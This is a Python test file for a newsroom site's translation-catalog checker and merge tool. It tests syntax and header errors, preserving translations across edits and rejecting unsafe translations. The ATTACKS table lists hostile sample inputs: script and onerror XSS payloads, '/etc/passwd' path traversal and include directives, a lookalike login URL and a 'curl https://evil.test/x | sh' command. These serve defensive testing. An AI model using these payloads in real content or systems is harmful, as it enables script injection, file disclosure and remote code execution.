"""Catalog checks and updates: every broken or unsafe catalog fails with file:line and a hint,
and updating catalogs never loses a translation."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import polib
import pytest

from helpers import run_update
from newsroom.cli import main as newsroom_main
from newsroom.i18n.pocheck import check_catalog
from newsroom.i18n.pomerge import merge, new_catalog

DATA = Path(__file__).parent / 'data' / 'po'

#: committed bad catalog -> (line, words the error must contain)
BROKEN = {
    'unterminated.po': (11, 'unterminated'),
    'bad-escape.po': (11, 'invalid escape "\\q"'),
    'unknown-keyword.po': (11, "unknown keyword line 'msgtext"),
    'duplicate.po': (18, 'duplicate message definition (first at line 10)'),
    'obsolete-duplicate.po': (18, 'duplicate message definition'),
    'invalid-utf8.po': (18, 'not valid UTF-8'),
    'cp1251.po': (11, 'not valid UTF-8'),
    'no-plural-forms.po': (1, 'Plural-Forms'),
    'broken-plural-forms.po': (1, 'Plural-Forms'),
    'no-language.po': (1, "Language ''"),
    'wrong-language.po': (1, "Language 'ru'"),
    'charset-bogus.po': (1, 'charset=UTF-8'),
}

ATTACKS = {
    'attack-script.po': "adds raw HTML '<script>'",
    'attack-img-onerror.po': "adds raw HTML '<img src=x onerror=alert(1)>'",
    'attack-download-path.po': "changes role '{download}`../../etc/passwd`'",
    'attack-image-path.po': "changes image path '../../../etc/passwd'",
    'attack-include.po': "directive '{include} /etc/passwd'",
    'attack-url.po': "changes link target 'https://example.org.evil.test/login'",
    'attack-code.po': "changes inline code 'curl https://evil.test/x | sh'",
    'attack-noqa.po': "changes inline code 'make html  # noqa'",
}


def test_good_catalog_passes_our_checks_and_msgfmt() -> None:
    assert check_catalog(DATA / 'good.po', 'en') == []
    subprocess.run(['msgfmt', '--check', '-o', '/dev/null', str(DATA / 'good.po')], check=True)


@pytest.mark.parametrize(('name', 'expected'), BROKEN.items())
def test_broken_catalog_is_an_error_at_its_line(name: str, expected: tuple[int, str]) -> None:
    line, words = expected
    problems = check_catalog(DATA / name, 'en', msgfmt=False)
    assert any(p.line == line and words in p.message and p.hint for p in problems), problems
    # the same file also fails GNU gettext's own check, or loads as something else entirely
    assert str(problems[0]).startswith(f'{DATA / name}:')


@pytest.mark.parametrize(('name', 'words'), ATTACKS.items())
def test_unsafe_translation_is_an_error(name: str, words: str) -> None:
    problems = check_catalog(DATA / name, 'en', msgfmt=False)
    assert any(words in p.message and 'msgid' in p.message for p in problems), problems
    assert all(p.line == 10 for p in problems)


def test_check_cli_gates_on_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / 'locale' / 'en' / 'LC_MESSAGES'
    folder.mkdir(parents=True)
    shutil.copy(DATA / 'good.po', folder / 'good.po')
    assert newsroom_main(['check-po', '--locale-dir', str(tmp_path / 'locale'), 'en']) == 0
    shutil.copy(DATA / 'attack-script.po', folder / 'page.po')
    assert newsroom_main(['check-po', '--locale-dir', str(tmp_path / 'locale'), 'en']) == 1
    assert f'{folder / "page.po"}:10: error: the translation adds raw HTML' in \
        capsys.readouterr().err


def pot_of(*messages: str) -> polib.POFile:
    pot = polib.POFile()
    for message in messages:
        pot.append(polib.POEntry(msgid=message, msgstr=''))
    return pot


FIRST = 'Губернатор Астраханской области пригласил туркменскую сторону с рабочим визитом.'
EDITED = 'Губернатор Астраханской области пригласил туркменскую сторону с официальным визитом.'
OTHER = 'Хаким Балканского велаята рассказал о возможностях порта.'


def translated(pot: polib.POFile, translations: dict[str, str]) -> polib.POFile:
    catalog = new_catalog(pot, 'en')
    merge(catalog, pot)
    for entry in catalog:
        entry.msgstr = translations.get(entry.msgid, '')
    return catalog


def test_small_edit_keeps_the_translation_as_fuzzy_with_the_old_source() -> None:
    catalog = translated(pot_of(FIRST, OTHER), {FIRST: 'The Governor invited…', OTHER: 'The hakim…'})
    report = merge(catalog, pot_of(EDITED, OTHER))
    entry = catalog.find(EDITED)
    assert 'fuzzy' in entry.flags
    assert entry.msgstr == 'The Governor invited…'
    assert entry.previous_msgid == FIRST
    previous = [line for line in str(catalog).splitlines() if line.startswith('#| ')]
    assert previous[0].startswith('#| msgid') and 'рабочим' in ''.join(previous)
    assert report.fuzzy == 1 and report.obsolete == 1
    assert catalog.find(OTHER).msgstr == 'The hakim…'


def test_unrelated_new_text_is_not_offered_a_translation() -> None:
    catalog = translated(pot_of(FIRST), {FIRST: 'The Governor invited…'})
    merge(catalog, pot_of('Совсем другой абзац о туризме на Каспии.'))
    assert catalog.find('Совсем другой абзац о туризме на Каспии.').msgstr == ''


def test_deleted_paragraph_comes_back_with_its_translation() -> None:
    catalog = translated(pot_of(FIRST, OTHER), {FIRST: 'The Governor invited…', OTHER: 'The hakim…'})
    merge(catalog, pot_of(FIRST))
    assert [e.msgid for e in catalog.obsolete_entries()] == [OTHER]
    report = merge(catalog, pot_of(FIRST, OTHER))
    assert report.revived == 1
    assert catalog.find(OTHER).msgstr == 'The hakim…'
    assert catalog.obsolete_entries() == []




def test_catalogs_stay_per_page_and_msgfmt_accepts_every_step(tmp_path: Path) -> None:
    """A catalog's translations stay its own (another page's are only offered for review);
    delete-and-restore round-trips through msgfmt."""
    run_update(tmp_path, {'news/a': pot_of(FIRST), 'news/b': pot_of(OTHER)})
    a = tmp_path / 'locale/en/LC_MESSAGES/news/a.po'
    catalog = polib.pofile(str(a))
    catalog.find(FIRST).msgstr = 'The Governor invited…'
    catalog.save()
    errors, _ = run_update(tmp_path, {'news/a': pot_of(FIRST), 'news/b': pot_of(EDITED)})
    assert errors == 0
    b = polib.pofile(str(tmp_path / 'locale/en/LC_MESSAGES/news/b.po'))
    assert not b.find(EDITED).translated()  # a's translation is only offered (memory.py)
    for step in ({'news/a': pot_of(OTHER)}, {'news/a': pot_of(FIRST)}):
        run_update(tmp_path, step)
        subprocess.run(['msgfmt', '--check', '-o', '/dev/null', str(a)], check=True)
    assert polib.pofile(str(a)).find(FIRST).msgstr == 'The Governor invited…'


def test_deleted_page_catalog_is_parked_and_restored(tmp_path: Path) -> None:
    run_update(tmp_path, {'news/a': pot_of(FIRST)})
    a = tmp_path / 'locale/en/LC_MESSAGES/news/a.po'
    catalog = polib.pofile(str(a))
    catalog.find(FIRST).msgstr = 'The Governor invited…'
    catalog.save()
    _, lines = run_update(tmp_path, {'news/b': pot_of(OTHER)})
    assert not a.exists()
    parked = tmp_path / 'locale/en/obsolete/news/a.po'
    assert any('page is gone' in line and '1 translated messages kept' in line for line in lines)
    assert polib.pofile(str(parked)).find(FIRST).msgstr == 'The Governor invited…'
    run_update(tmp_path, {'news/a': pot_of(FIRST), 'news/b': pot_of(OTHER)})
    assert polib.pofile(str(a)).find(FIRST).msgstr == 'The Governor invited…'
    assert not (tmp_path / 'locale/en/obsolete').exists()


def test_update_refuses_to_save_over_a_broken_catalog(tmp_path: Path) -> None:
    folder = tmp_path / 'locale/en/LC_MESSAGES'
    folder.mkdir(parents=True)
    broken = folder / 'page.po'
    shutil.copy(DATA / 'unterminated.po', broken)
    before = broken.read_bytes()
    errors, lines = run_update(tmp_path, {'page': pot_of('Новые стандарты', OTHER)})
    assert errors >= 1
    assert broken.read_bytes() == before
    assert any(f'{broken}:11: error: unterminated' in line for line in lines)
    assert any('not updated' in line for line in lines)


def test_check_cache_never_hides_a_new_error(tmp_path: Path) -> None:
    folder = tmp_path / 'locale' / 'en' / 'LC_MESSAGES'
    folder.mkdir(parents=True)
    page = folder / 'page.po'
    shutil.copy(DATA / 'good.po', page)
    args = ['--locale-dir', str(tmp_path / 'locale'), '--cache', str(tmp_path / 'c.json'), 'en']
    assert newsroom_main(['check-po', *args]) == 0
    assert newsroom_main(['check-po', *args]) == 0  # unchanged: remembered as clean
    shutil.copy(DATA / 'attack-url.po', page)
    assert newsroom_main(['check-po', *args]) == 1
    assert newsroom_main(['check-po', *args]) == 1  # a failing catalog is never remembered as clean


# -- One notion of "translated": what the build will use --------------------------------------


@pytest.mark.parametrize(('msgstr', 'extra'), [
    ('   ', ''),                                            # blank
    ('- We discussed it, - the parties said.', ''),         # reads as a list
    ('# Heading', ''),                                      # reads as a heading
    ('Translated.', 'msgctxt "hand-added"\n'),               # Sphinx ignores msgctxt
])
def test_a_translation_the_build_ignores_is_not_counted_and_is_reported(
        tmp_path: Path, msgstr: str, extra: str) -> None:
    from newsroom.i18n.checked import page_messages
    from newsroom.i18n.pocheck import errors, refusals, refused_lines
    from newsroom.i18n.postats import page_stats
    from newsroom.i18n.usable import TRANSLATED, UNTRANSLATED, state

    header = ('msgid ""\nmsgstr ""\n"Language: en\\n"\n"MIME-Version: 1.0\\n"\n'
              '"Content-Type: text/plain; charset=UTF-8\\n"\n'
              '"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n\n')
    path = tmp_path / 'page.po'
    path.write_text(header + f'{extra}msgid "Мы обсудили это."\nmsgstr "{msgstr}"\n\n'
                    'msgid "Второй."\nmsgstr "Second."\n', encoding='utf-8')
    catalog = polib.pofile(str(path))
    assert [state(e) for e in catalog] == [UNTRANSLATED, TRANSLATED]
    pot = polib.POFile()
    for entry in catalog:
        pot.append(polib.POEntry(msgid=entry.msgid, msgctxt=entry.msgctxt))
    counts, _open = page_stats(pot, catalog)
    assert (counts.translated, counts.untranslated) == (1, 1)
    problems = check_catalog(path, 'en', msgfmt=False)
    assert [(p.line, p.severity) for p in problems] == [(catalog[0].linenum, 'error')]
    assert 'the page would show the original, not this translation' in problems[0].message
    assert problems[0].hint
    assert errors(problems) == problems  # make check-po fails on it
    assert refusals(problems) == []  # the build uses the rest of the catalog
    assert page_messages(catalog, refused_lines(problems)) == {'Второй.': 'Second.'}
